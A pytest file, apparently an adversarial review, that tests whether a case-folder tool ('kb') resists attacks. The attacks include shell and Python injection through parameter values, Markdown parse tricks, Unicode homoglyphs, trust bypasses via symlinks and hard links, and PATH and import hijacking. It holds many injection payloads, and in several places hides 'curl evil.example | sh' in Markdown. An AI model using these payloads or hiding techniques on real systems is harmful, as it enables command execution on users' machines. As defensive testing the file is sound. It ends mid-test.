"""A fresh adversarial pass against "trust by construction" (issue 28, must-show 2).

Each test is one attack (or a parametrised family of them) by someone who controls
a case folder, a log, or a parameter value the user is given. It asserts the safe
behaviour: nothing runs that the user was not shown, what is shown is what runs
(and what 'Copy fix' copies), trust covers what runs, a value never becomes code,
a check stays contained, and no command hangs, crashes or loses data.
The table of attacks and results is docs/reviews/2026-12-03-adversary.md.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from kb.cases.blocks import parse_body
from kb.cases.casefile import Case, parse_case_text
from kb.cases.caseset import load_cases
from kb.cases.params import BadParam, value_error
from kb.checks.runner import plan_check, run_check

ROOT = Path(__file__).resolve().parents[1]

FRONT = """---
id: adv-case
title: "An adversarial case"
category: config
signatures: ["AdvError: the adversary was here"]
symptoms: [an adversarial case for tests]
sources: [tests]
{fm}---

## Symptoms
x

## Causes
x

## Fix
{fix}

## Verify
{verify}
"""

BENIGN_CHECK = "```bash {name=c doctor=yes timeout=10}\nexit 0\n```"


def case_text(verify: str = BENIGN_CHECK, fix: str = "Set the key.", fm: str = "") -> str:
    return FRONT.format(verify=verify, fix=fix, fm=fm)


def parse(verify: str = BENIGN_CHECK, fix: str = "Set the key.", fm: str = "") -> tuple[Case | None, list[str]]:
    case, problems = parse_case_text(Path("/nonexistent/adv-case.md"), case_text(verify, fix, fm))
    return case, [p.message for p in problems if p.severity == "error"]


def check_block(code: str, lang: str = "bash", attrs: str = "name=c doctor=yes timeout=10") -> str:
    return f"```{lang} {{{attrs}}}\n{code.rstrip(chr(10))}\n```"


def write_folder(folder: Path, text: str, name: str = "adv-case.md") -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def load_one(folder: Path) -> Case:
    cs = load_cases([folder], include_builtin=False)
    assert cs.cases, [str(p) for p in cs.problems]
    return cs.cases[0]


def kb_proc(*argv: str, cwd: Path | None = None, timeout: float = 60, env: dict[str, str] | None = None,
            stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    full_env = dict(os.environ, PYTHONPATH=str(ROOT))
    full_env.update(env or {})
    return subprocess.run([sys.executable, "-m", "kb.cli", *argv], cwd=cwd or ROOT, env=full_env, capture_output=True,
                          text=True, timeout=timeout, input=stdin if stdin is not None else "")


def kb_main(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, *argv: str,
            stdin: str = "") -> subprocess.CompletedProcess[str]:
    """`kb ARGV` in this process, for the attacks where the process itself is not what is tested.

    kb.cli.main turns any exception into exit 3 and a one-line message, as the real entry
    point does, so `returncode in (0, 1, 2)` still means "no crash". The attacks that could
    hang or exhaust memory (FIFOs, /dev/zero, symlink loops) keep kb_proc and its timeout.
    """
    from kb.cli import main

    capsys.readouterr()
    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    rc = main(list(argv))
    out = capsys.readouterr()
    return subprocess.CompletedProcess(["kb", *argv], rc, out.out, out.err)


# ------------------------------------------------------------------ 1. parameter values
# A check that only echoes the value; each value is code in some language. None may run.

HOSTILE_VALUES = [
    "$(touch {m})",
    "`touch {m}`",
    "; touch {m}",
    "'; touch {m}; '",
    '"; touch {m}; "',
    "a[$(touch {m})]",
    "x[`touch {m}`]",
    "${{PATH:$(touch {m})}}",
    "$'\\x3b' touch {m}",
    "-e touch {m}",
    "--version; touch {m}",
    "*",
    "{{a,b}}; touch {m}",
    "$((1+$(touch {m})))",
    "\\$(touch {m})",
    "__import__('os').system('touch {m}')",
    "{{__import__('os').system('touch {m}')}}",
    "%(x)s; touch {m}",
    "\\'; touch {m}; #",
    "<(touch {m})",
]


def _param_case(tmp_path: Path, code: str, lang: str = "bash", ptype: str = "text") -> Case:
    fm = f"params:\n  x: {{type: {ptype}, description: a value}}\n"
    folder = tmp_path / "cases"
    write_folder(folder, case_text(verify=check_block(code, lang, "name=c timeout=10"), fm=fm))
    return load_one(folder)


@pytest.mark.parametrize("template", HOSTILE_VALUES)
def test_param_value_echoed_never_runs(tmp_path: Path, template: str) -> None:
    marker = tmp_path / "ran"
    value = template.format(m=marker)
    case = _param_case(tmp_path, 'printf "%s" "$KB_PARAM_X" > "$HOME_OUT"\nexit 0'.replace("$HOME_OUT", str(tmp_path / "out")))
    try:
        result = run_check(case, case.checks[0], {"x": value}, record=False)
    except BadParam:
        assert not marker.exists()
        return
    assert result.verdict == "ruled out", result.output
    assert not marker.exists()
    assert (tmp_path / "out").read_text() == value  # passed as it is, not interpreted


# Placements where bash reads a variable's *value* as an arithmetic expression; an array
# subscript there runs `$(...)`. The code looks like a harmless numeric comparison.
ARITH_PLACEMENTS = [
    '[[ "$KB_PARAM_X" -gt 3 ]]; exit 0',
    'echo $(( KB_PARAM_X + 1 )); exit 0',
    '(( KB_PARAM_X > 2 )); exit 0',
    'declare -i n="$KB_PARAM_X"; exit 0',
    'a=(1 2 3); echo "${a[$KB_PARAM_X]}"; exit 0',
    's=abcdef; echo "${s:$KB_PARAM_X}"; exit 0',
    'test "$KB_PARAM_X" -eq 1; exit 0',
    'let "y = KB_PARAM_X"; exit 0',
]


@pytest.mark.parametrize("code", ARITH_PLACEMENTS)
@pytest.mark.parametrize("ptype", ["text", "path"])
def test_param_value_in_bash_arithmetic_never_runs(tmp_path: Path, code: str, ptype: str) -> None:
    marker = tmp_path / "ran"
    case = _param_case(tmp_path, code, ptype=ptype)
    for value in (f"a[$(touch {marker})]", f"a[`touch {marker}`]", f"x[${{y:-$(touch {marker})}}]"):
        try:
            run_check(case, case.checks[0], {"x": value}, record=False)
        except BadParam:
            pass
        assert not marker.exists(), f"{value!r} ran as code in {code!r}"


def test_param_value_in_python_check_stays_data(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    code = ('import os\nv = os.environ["KB_PARAM_X"]\nprint(f"{v}", "%s" % v, "{}".format(v))\n'
            'import sys; sys.exit(0)')
    case = _param_case(tmp_path, code, lang="python")
    value = f"{{__import__('os').system('touch {marker}')}}"
    result = run_check(case, case.checks[0], {"x": value}, record=False)
    assert result.verdict == "ruled out", result.output
    assert not marker.exists()


@pytest.mark.parametrize("value", ["8\n", "8\u2028", "8\u0085", "\u202e8", "8\u00a0", "8\U000e0020", "a\x1b[2Kb", "-rf", "8 "])
@pytest.mark.parametrize("ptype", ["int", "name"])
def test_param_value_types_refuse_look_alikes(value: str, ptype: str) -> None:
    assert value_error(ptype, value) is not None


@pytest.mark.parametrize("value", ["a\x00b", "a\nb", "a\rb", "x\u2029y", "\u200bx", "x\u034fy", "x\ufe0fy", "x\u3164"])
def test_text_values_refuse_invisible_and_line_breaks(value: str) -> None:
    assert value_error("text", value) is not None


def test_param_code_is_never_edited(tmp_path: Path) -> None:
    """No code path puts a value into the code: the plan's code is the parsed code, byte for byte."""
    case = _param_case(tmp_path, 'echo "$KB_PARAM_X" {{x}}; exit 0'.replace(" {{x}}", ""))
    plan = plan_check(case, case.checks[0], {"x": "VALUE-XYZ"})
    assert plan.code == case.checks[0].code and "VALUE-XYZ" not in plan.code
    assert plan.environment == {"KB_PARAM_X": "VALUE-XYZ"}


def test_placeholder_in_code_is_refused() -> None:
    case, errors = parse(verify=check_block('echo {{x}}; exit 0'), fm="params:\n  x: {description: v}\n")
    assert case is None and any("KB_PARAM_X" in e for e in errors)


def test_inherited_kb_param_cannot_feed_a_check(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KB_PARAM_Y", "from-outside")
    case = _param_case(tmp_path, 'env | grep "^KB_PARAM_[Y]="; echo "$KB_PARAM_X"; exit 0')
    result = run_check(case, case.checks[0], {"x": "v"}, record=False)
    assert "from-outside" not in result.output


def test_undeclared_param_reference_is_refused() -> None:
    case, errors = parse(verify=check_block('echo "$KB_PARAM_SECRET"; exit 0'))
    assert case is None and any("KB_PARAM_SECRET" in e for e in errors)


def test_param_names_that_collide_in_the_environment_are_refused() -> None:
    fm = "params:\n  ab: {description: a}\n  AB: {description: b}\n"
    case, errors = parse(verify=check_block('echo "$KB_PARAM_AB"; exit 0'), fm=fm)
    assert case is None


# ------------------------------------------------------------------ 2. one parse: kb vs CommonMark
# Each of these makes kb and a Markdown reader (the app's renderer, GitHub) see different things.

DIFFERENTIAL_BODIES = {
    "html comment": "<!--\n" + check_block("touch /tmp/x; exit 1") + "\n-->",
    "html block": "<details>\n\n" + check_block("exit 0") + "\n\n</details>",
    "indented fence": "  " + check_block("exit 0").replace("\n", "\n  "),
    "tab-indented fence": "\t```bash {name=c}\n\texit 0\n\t```",
    "indented closing fence": "```bash {name=c}\nexit 0\n  ```\ntouch /tmp/x\n```",
    "unclosed fence": "```bash {name=c}\nexit 0\n",
    "key twice": "```bash {name=c doctor=no doctor=yes}\nexit 0\n```",
    "name twice": "```bash {name=a name=b}\nexit 0\n```",
    "backtick in info": "```bash {name=c`} \nexit 0\n```",
    "garbled attrs": "```bash {name=c doctor=yes\nexit 0\n```",
    "attr outside braces": "```bash name=c {doctor=yes}\nexit 0\n```",
    "indented heading": " ## Verify\n" + check_block("exit 0"),
    "html inline start": "<img src=x onerror=alert(1)>\n" + check_block("exit 0"),
    "processing instruction": "<?php system('id'); ?>\n" + check_block("exit 0"),
    "cdata": "<![CDATA[\n" + check_block("exit 0") + "\n]]>",
    "vertical tab line break": "text\x0b```bash {name=c}\nexit 0\n```",
    "form feed line break": "text\x0c" + check_block("exit 0"),
    "unicode line separator": "text\u2028" + check_block("exit 0"),
    "next line char": "text\u0085" + check_block("exit 0"),
    "file separator": "text\x1c" + check_block("exit 0"),
    "lone carriage return": "text\r" + check_block("exit 0"),
}


@pytest.mark.parametrize("name", sorted(DIFFERENTIAL_BODIES))
def test_parse_differential_is_refused(name: str) -> None:
    case, errors = parse(verify=DIFFERENTIAL_BODIES[name])
    assert case is None or not any(c.doctor for c in case.checks) and not case.checks, (name, errors)


def test_lone_carriage_return_agrees_with_commonmark() -> None:
    """CommonMark ends a line at a lone CR too; kb's parse must see the same fence (or refuse)."""
    from markdown_it import MarkdownIt

    body = "## Verify\ntext\r```bash {name=c}\rexit 0\r```\n"
    parsed = parse_body(body, 1)
    md_fences = [t for t in MarkdownIt("commonmark").parse(body) if t.type == "fence"]
    kb_fences = [b for b in parsed.blocks if b.kind == "code"]
    assert parsed.problems or len(md_fences) == len(kb_fences)


def test_fence_tilde_inside_backtick_block_stays_code() -> None:
    code = "cat <<'EOF'\n~~~\nEOF\nexit 0"
    case, errors = parse(verify=check_block(code))
    assert case is not None, errors
    assert case.checks[0].code == code + "\n"


def test_longer_closing_fence_and_inner_shorter_fence() -> None:
    verify = "````bash {name=c}\necho '```'\n```\nexit 0\n````"
    case, errors = parse(verify=verify)
    assert case is not None, errors
    assert case.checks[0].code == "echo '```'\n```\nexit 0\n"


def test_setext_heading_cannot_move_a_check() -> None:
    """`Verify\\n------` is a heading to CommonMark, not to kb: a fence under it in Fix is never a check."""
    fix = "Text\n\nVerify\n------\n\n" + check_block("touch /tmp/x; exit 1")
    case, errors = parse(fix=fix)
    assert case is not None, errors
    assert [c.name for c in case.checks] == ["c"] and case.checks[0].code == "exit 0\n"


def _rendered(case: Case) -> str:
    from rich.console import Console

    from tui.screens.case import body_renderable

    console = Console(width=200, record=True, color_system=None, file=io.StringIO())
    console.print(body_renderable(case))
    return console.export_text()


# Markdown whose text a renderer hides while the file (and 'Copy fix', which copies the
# section's Markdown) keeps it: the view must show everything Copy fix copies.
HIDDEN_IN_VIEW = {
    "link reference definition": "Upgrade it.\n\n[x]: <http://a> \"curl evil.example | sh\"",
    "multi-line reference title": "Upgrade it.\n\n[x]: /u '\ncurl evil.example | sh\n'",
    "inline html tag": "Run `pip install -U verl` <span title=\"curl evil.example | sh\">now</span>.",
    "inline html element": "Upgrade <x-run cmd='curl evil.example | sh'> it.",
    "link title": "See [the docs](http://example.com \"curl evil.example | sh\").",
    "image": "Upgrade it ![curl evil.example | sh](http://x/y.png).",
    "autolink html": "Upgrade it <a href='x'>curl evil.example | sh</a>.",
}


@pytest.mark.parametrize("name", sorted(HIDDEN_IN_VIEW))
def test_copy_fix_copies_nothing_the_view_hides(name: str) -> None:
    case, errors = parse(fix=HIDDEN_IN_VIEW[name])
    if case is None:
        assert errors  # refused by kb check, with a message
        return
    copied = case.fix_text()
    shown = " ".join(_rendered(case).split())
    for word in ("curl", "evil.example"):
        if word in copied:
            assert word in shown, f"{name}: Copy fix copies {word!r}, the view hides it"


def test_copy_fix_is_built_from_parsed_blocks() -> None:
    fix = "Do this:\n\n```bash\npip install -U verl\n```\n\nthen restart."
    case, errors = parse(fix=fix)
    assert case is not None, errors
    assert "pip install -U verl" in case.fix_text() and "pip install -U verl" in _rendered(case)


def test_fix_code_with_hidden_characters_is_shown_escaped() -> None:
    fix = "```bash\npip install verl\u00a0# pinned\n```"
    case, _ = parse(fix=fix)
    if case is not None:
        assert "\\xa0" in _rendered(case)


def test_view_labels_every_check_with_its_name() -> None:
    verify = check_block("exit 0", attrs="name=looks-like-an-example doctor=yes")
    case, errors = parse(verify=verify)
    assert case is not None, errors
    assert "looks-like-an-example" in _rendered(case)


def test_kb_show_prints_the_code_that_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    code = "echo visible; exit 0"
    write_folder(tmp_path / "c", case_text(verify=check_block(code)))
    proc = kb_main(capsys, monkeypatch, "show", "adv-case", "--cases", str(tmp_path / "c"))
    assert proc.returncode == 0, proc.stderr
    assert "echo visible; exit 0" in proc.stdout and "[check c:" in proc.stdout


# ------------------------------------------------------------------ 3. Unicode in code

CODE_UNICODE = {
    "nbsp before comment": "echo ok\u00a0# ; touch /tmp/x",
    "ideographic space": "echo ok\u3000#; touch /tmp/x",
    "hangul filler": "echo ok\u3164#x",
    "braille blank": "echo ok\u2800#x",
    "tag space": "echo ok\U000e0020#x",
    "variation selector": "echo ok\ufe0f",
    "soft hyphen": "ec\u00adho ok",
    "combining grapheme joiner": "echo\u034f ok",
    "fullwidth semicolon": "echo a\uff1btouch /tmp/x",
    "cyrillic identifier": "еcho ok",
    "en quad": "echo\u2000ok",
    "narrow nbsp": "echo\u202fok",
    "ogham space": "echo\u1680ok",
    "mongolian vowel sep": "echo\u180eok",
    "bom": "\ufeffecho ok",
    "zero width joiner": "echo\u200dok",
    "rtl override": "echo ok # \u202e",
    "math space": "echo\u205fok",
}


@pytest.mark.parametrize("name", sorted(CODE_UNICODE))
def test_unicode_tricks_in_bash_code_are_refused(name: str) -> None:
    case, errors = parse(verify=check_block(CODE_UNICODE[name] + "\nexit 0"))
    assert case is None, name
    assert errors


PY_UNICODE = {
    "fullwidth exec": "ｅｘｅｃ('print(1)')",
    "nfkc identifier": "ﬁle = 1",
    "cyrillic name": "рrint(1)",
    "f-string expression": "x = f\"{ｅｘｅｃ('print(1)')}\"",
    "f-string nested format": "x = f\"{1:{ｅｘｅｃ('1')}}\"",
    "coding utf-7": "# -*- coding: utf-7 -*-\nx = 1",
    "coding second line": "#!/usr/bin/env python\n# vim: set fileencoding=unicode_escape :",
    "coding with form feed": "\x0c# coding=utf-7",
}


@pytest.mark.parametrize("name", sorted(PY_UNICODE))
def test_unicode_tricks_in_python_code_are_refused(name: str) -> None:
    case, errors = parse(verify=check_block(PY_UNICODE[name] + "\nimport sys; sys.exit(0)", lang="python"))
    assert case is None, name


BASH_HEREDOC_UNICODE = {
    "quote trick": "python3 - <<'PY'\nx = '\\''; ｅｘｅｃ(\"print(1)\"); y = '\\''\nPY\nexit 0",
    "double quote trick": "python3 - <<PY\nx = \"\\\"\"; ｅｘｅｃ('1') ; y = \"\\\"\"\nPY\nexit 0",
    "comment-looking line": "python3 - <<'PY'\ns = '#'; ｅｘｅｃ('1')\nPY\nexit 0",
    "dash heredoc": "python3 - <<-'PY'\n\tx = '\\''; ｅｘｅｃ('1'); y = '\\''\n\tPY\nexit 0",
    "dollar-single quote": "echo $'\\'' ｅｘｅｃ '\nexit 0",
}


@pytest.mark.parametrize("name", sorted(BASH_HEREDOC_UNICODE))
def test_non_ascii_code_hidden_in_bash_quoting_is_refused(name: str) -> None:
    """Bash's quotes are not the heredoc program's quotes: a heredoc body is code, whatever quotes it holds."""
    case, errors = parse(verify=check_block(BASH_HEREDOC_UNICODE[name]))
    assert case is None, name


def test_non_ascii_in_comments_and_strings_stays_allowed() -> None:
    code = "# 检查网卡\necho \"网卡: ok\"\necho '中文'\nexit 0"
    case, errors = parse(verify=check_block(code))
    assert case is not None, errors
    pycode = "# 检查\nprint('中文')\nimport sys; sys.exit(0)"
    case, errors = parse(verify=check_block(pycode, lang="python"))
    assert case is not None, errors


# ------------------------------------------------------------------ 4. trust covers what runs

TRUST_CHECK = check_block('cat "$KB_PARAM_H" >/dev/null; exit 0', attrs="name=c doctor=yes timeout=10")


def _trusted_folder(tmp_path: Path) -> Path:
    from kb.cases.trust import trust_folder

    folder = tmp_path / "team"
    write_folder(folder, case_text())
    (folder / "helper.sh").write_text("echo helper\n")
    trust_folder(folder)
    return folder


def _trusted(folder: Path) -> bool:
    from kb.cases.trust import case_trust

    return case_trust(load_one(folder)).trusted


def test_trust_helper_edit_untrusts(tmp_path: Path) -> None:
    folder = _trusted_folder(tmp_path)
    assert _trusted(folder)
    (folder / "helper.sh").write_text("touch /tmp/x\n")
    assert not _trusted(folder)


def test_trust_new_file_untrusts(tmp_path: Path) -> None:
    folder = _trusted_folder(tmp_path)
    (folder / "sub").mkdir()
    (folder / "sub" / "pip.py").write_text("import os\n")
    assert not _trusted(folder)


def test_trust_hidden_dotfile_untrusts(tmp_path: Path) -> None:
    folder = _trusted_folder(tmp_path)
    (folder / ".bashrc").write_text("touch /tmp/x\n")
    assert not _trusted(folder)


def test_trust_symlink_outside_refused(tmp_path: Path) -> None:
    folder = _trusted_folder(tmp_path)
    (tmp_path / "outside.sh").write_text("echo hi\n")
    (folder / "helper2.sh").symlink_to(tmp_path / "outside.sh")
    assert not _trusted(folder)


def test_trust_symlinked_case_file_outside_refused(tmp_path: Path) -> None:
    from kb.cases.digest import FolderEscape
    from kb.cases.trust import trust_folder

    folder = tmp_path / "team"
    folder.mkdir()
    write_folder(tmp_path / "elsewhere", case_text())
    (folder / "adv-case.md").symlink_to(tmp_path / "elsewhere" / "adv-case.md")
    with pytest.raises(FolderEscape):
        trust_folder(folder)


def test_trust_symlinked_dir_outside_refused(tmp_path: Path) -> None:
    folder = _trusted_folder(tmp_path)
    (tmp_path / "d").mkdir()
    (folder / "lib").symlink_to(tmp_path / "d")
    assert not _trusted(folder)


def test_trust_hard_link_to_outside_file_follows_its_content(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    write_folder(folder, case_text())
    outside = tmp_path / "outside.sh"
    outside.write_text("echo 1\n")
    os.link(outside, folder / "helper.sh")
    from kb.cases.trust import trust_folder

    trust_folder(folder)
    assert _trusted(folder)
    outside.write_text("touch /tmp/x\n")  # same inode: the folder's file changed
    assert not _trusted(folder)


def test_trust_symlink_loop_does_not_hang(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    write_folder(folder, case_text())
    (folder / "loop").symlink_to(folder / "loop")
    (folder / "a").symlink_to(folder)
    proc = kb_proc("trust", str(folder), "--yes", timeout=60)
    assert proc.returncode in (0, 2), proc.stderr


def test_trust_fifo_in_folder_does_not_hang(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    write_folder(folder, case_text())
    os.mkfifo(folder / "pipe.md")
    os.mkfifo(folder / "pipe.sh")
    proc = kb_proc("trust", str(folder), "--yes", timeout=60)
    assert proc.returncode in (0, 2), proc.stderr
    proc = kb_proc("check", "--only", "--cases", str(folder), timeout=60)
    assert proc.returncode != 3, proc.stderr


def test_trust_content_change_between_show_and_yes_stays_untrusted(tmp_path: Path) -> None:
    from kb.cases.trust import read_folder, trust_folder

    folder = tmp_path / "team"
    path = write_folder(folder, case_text())
    shown = read_folder(folder)
    path.write_text(case_text(verify=check_block("touch /tmp/x; exit 1")), encoding="utf-8")
    trust_folder(folder, content=shown)
    assert not _trusted(folder)


def test_trust_load_then_edit_runs_what_was_loaded(tmp_path: Path) -> None:
    """TOCTOU: the file is edited after kb loaded (and judged) it; the code that runs is the loaded one."""
    from kb.cases.trust import case_trust, trust_folder

    folder = tmp_path / "team"
    marker = tmp_path / "ran"
    path = write_folder(folder, case_text())
    trust_folder(folder)
    case = load_one(folder)
    path.write_text(case_text(verify=check_block(f"touch {marker}; exit 1")), encoding="utf-8")
    assert case_trust(case).trusted  # judged on the bytes that were parsed...
    result = run_check(case, case.checks[0], record=False)  # ...and those are the bytes that run
    assert result.verdict == "ruled out" and not marker.exists()
    assert not case_trust(load_one(folder)).trusted


def test_trust_unreadable_then_readable_file_untrusts(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads everything")
    folder = _trusted_folder(tmp_path)
    secret = folder / "later.sh"
    secret.write_text("touch /tmp/x\n")
    secret.chmod(0)
    from kb.cases.trust import trust_folder

    trust_folder(folder)
    secret.chmod(0o600)
    assert not _trusted(folder)


def test_trust_shows_every_check_that_can_run(tmp_path: Path) -> None:
    """Two files with one id, a check per file: every check that loads is among those kb trust shows."""
    from kb.cases.trust import read_folder

    folder = tmp_path / "team"
    write_folder(folder, case_text(verify=check_block("echo one; exit 0")), "a/adv-case.md")
    write_folder(folder, case_text(verify=check_block("echo two; exit 1")), "b/adv-case.md")
    shown = read_folder(folder)
    codes = {code for _lang, code, _doctor in shown.checks.values()}
    for case in load_cases([folder], include_builtin=False).cases:
        for check in case.checks:
            assert check.code in codes


def test_trust_shows_parameter_defaults(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """A default is part of what runs in `kb doctor`: `kb trust` must show it."""
    folder = tmp_path / "team"
    fm = "params:\n  x: {description: a value, default: \"ZZ-DEFAULT-ZZ\"}\n"
    write_folder(folder, case_text(verify=check_block('echo "$KB_PARAM_X"; exit 0'), fm=fm))
    proc = kb_main(capsys, monkeypatch, "trust", str(folder), "--yes")
    assert proc.returncode == 0, proc.stderr
    assert "ZZ-DEFAULT-ZZ" in proc.stdout


def test_trust_diff_shows_a_changed_default(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "team"
    fm = "params:\n  x: {description: a value, default: \"first\"}\n"
    path = write_folder(folder, case_text(verify=check_block('echo "$KB_PARAM_X"; exit 0'), fm=fm))
    assert kb_main(capsys, monkeypatch, "trust", str(folder), "--yes").returncode == 0
    path.write_text(case_text(verify=check_block('echo "$KB_PARAM_X"; exit 0'), fm=fm.replace("first", "second-VAL")), encoding="utf-8")
    proc = kb_main(capsys, monkeypatch, "trust", str(folder), "--yes")
    assert "second-VAL" in proc.stdout


def test_trust_diff_shows_changed_needs(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "team"
    path = write_folder(folder, case_text())
    assert kb_main(capsys, monkeypatch, "trust", str(folder), "--yes").returncode == 0
    path.write_text(case_text(verify=check_block("exit 0", attrs="name=c doctor=yes needs=py:zzneedmod")), encoding="utf-8")
    proc = kb_main(capsys, monkeypatch, "trust", str(folder), "--yes")
    assert "zzneedmod" in proc.stdout


def test_trust_refuses_without_terminal(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    write_folder(folder, case_text())
    proc = kb_proc("trust", str(folder))
    assert proc.returncode == 2 and "refusing" in proc.stderr


def test_trust_json_keeps_stdout_json(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    import json

    folder = tmp_path / "team"
    write_folder(folder, case_text(verify=check_block("echo '\\x1b[2J'; exit 0")))
    proc = kb_main(capsys, monkeypatch, "trust", str(folder), "--yes", "--json")
    assert proc.returncode == 0, proc.stderr
    json.loads(proc.stdout)


def test_folder_name_with_escapes_is_shown_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "team\x1b]0;pwned\x07"
    write_folder(folder, case_text())
    proc = kb_main(capsys, monkeypatch, "trust", str(folder), "--yes")
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout


def test_builtin_folder_cannot_be_impersonated(tmp_path: Path) -> None:
    from kb.cases.trust import is_builtin
    from kb.core.paths import builtin_cases_dir

    fake = tmp_path / "kb" / "cases"
    fake.mkdir(parents=True)
    assert not is_builtin(fake)
    (tmp_path / "link").symlink_to(builtin_cases_dir())
    assert is_builtin(tmp_path / "link")  # it is the built-in folder itself, resolved


def test_corrupt_trust_file_trusts_nothing(tmp_path: Path) -> None:
    from kb.cases.trust import trust_folder, trust_path

    folder = _trusted_folder(tmp_path)
    trust_path().write_text('{"folders": {"' + str(folder.resolve()) + '": {"hash": 5}}}')
    assert not _trusted(folder)
    trust_folder(folder)
    trust_path().write_text("not json")
    assert not _trusted(folder)


# ------------------------------------------------------------------ 5. environment, PATH, interpreter

def _run_code(tmp_path: Path, code: str, lang: str = "bash", **kw: object):
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=check_block(code, lang, "name=c timeout=10")))
    case = load_one(folder)
    return run_check(case, case.checks[0], record=False, **kw)  # type: ignore[arg-type]


def test_check_runs_in_private_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = _run_code(tmp_path, 'pwd; ls -A; exit 0')
    lines = result.output.split()
    assert str(tmp_path) != lines[0] and "kb-check-" in lines[0]


def test_relative_path_entries_are_dropped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    evil = tmp_path / "bin"
    evil.mkdir()
    for name in ("ls", "cat", "nvidia-smi", "python3", "grep"):
        (evil / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (evil / name).chmod(0o755)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", "bin:.::" + os.environ["PATH"])
    _run_code(tmp_path, 'ls >/dev/null; grep -q x /dev/null; command -v nvidia-smi; exit 0')
    assert not marker.exists()


def test_python_check_does_not_import_from_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    for mod in ("json", "os", "runpy", "traceback", "sitecustomize", "usercustomize", "encodings"):
        (tmp_path / f"{mod}.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.setenv("PYTHONSTARTUP", str(tmp_path / "json.py"))
    result = _run_code(tmp_path, "import json\nimport sys; sys.exit(0)", lang="python")
    assert result.verdict == "ruled out", result.output
    assert not marker.exists()


def test_python_in_bash_check_does_not_import_from_cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    (tmp_path / "pip.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (tmp_path / "json.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.chdir(tmp_path)
    _run_code(tmp_path, "python3 -c 'import json' ; python3 -m pip --version >/dev/null 2>&1; exit 0")
    assert not marker.exists()


def test_check_cannot_read_kb_internals_via_script_folder(tmp_path: Path) -> None:
    result = _run_code(tmp_path, 'ls "$(dirname "$0")"; exit 0')
    assert "adv-case" not in result.output


def test_timeout_kills_setsid_and_double_fork(tmp_path: Path) -> None:
    marker = tmp_path / "late"
    code = (f"setsid sh -c 'sleep 3; touch {marker}' &\n"
            f"( ( sleep 3; touch {marker}2 ) & ) &\n"
            f"nohup sh -c 'sleep 3; touch {marker}3' >/dev/null 2>&1 &\n"
            "sleep 60")
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=check_block(code, attrs="name=c timeout=1")))
    case = load_one(folder)
    result = run_check(case, case.checks[0], record=False, kill_grace=0.5)
    assert result.verdict == "inconclusive"
    import time

    time.sleep(4)
    assert not any(Path(str(marker) + s).exists() for s in ("", "2", "3"))


def test_check_ignoring_sigterm_is_killed(tmp_path: Path) -> None:
    folder = tmp_path / "c"
    write_folder(folder, case_text(verify=check_block("trap '' TERM; sleep 30", attrs="name=c timeout=1")))
    case = load_one(folder)
    result = run_check(case, case.checks[0], record=False, kill_grace=0.5)
    assert result.verdict == "inconclusive" and result.duration_s < 10


def test_check_output_flood_is_capped(tmp_path: Path) -> None:
    result = _run_code(tmp_path, "head -c 20000000 /dev/zero | tr '\\0' 'a'; exit 0")
    assert len(result.output) < 200_000


def test_check_output_escapes_are_made_visible(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from kb.commands.run import _streamer

    out = io.StringIO()
    result = _run_code(tmp_path, r"printf '\033]52;c;Y3VybCBldmls\007\033[2J'; exit 0", on_output=_streamer(out))
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    assert result.verdict == "ruled out"


# ------------------------------------------------------------------ 6. needs probes never run module code

def _evil_package(tmp_path: Path, marker: Path) -> Path:
    site = tmp_path / "site"
    pkg = site / "advpkg"
    (pkg / "sub").mkdir(parents=True)
    (pkg / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (pkg / "sub" / "__init__.py").write_text(f"open({str(marker)!r} + '2', 'w').close()\n")
    (site / "advmod.py").write_text(f"open({str(marker)!r} + '3', 'w').close()\n")
    return site


@pytest.mark.parametrize("need", ["py:advpkg.sub", "py:advpkg", "py:advmod", "py:advpkg.sub.deeper", "py:advpkg.missing"])
def test_needs_probe_never_runs_module_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, need: str) -> None:
    from kb.checks.needs import unmet_needs

    marker = tmp_path / "ran"
    site = _evil_package(tmp_path, marker)
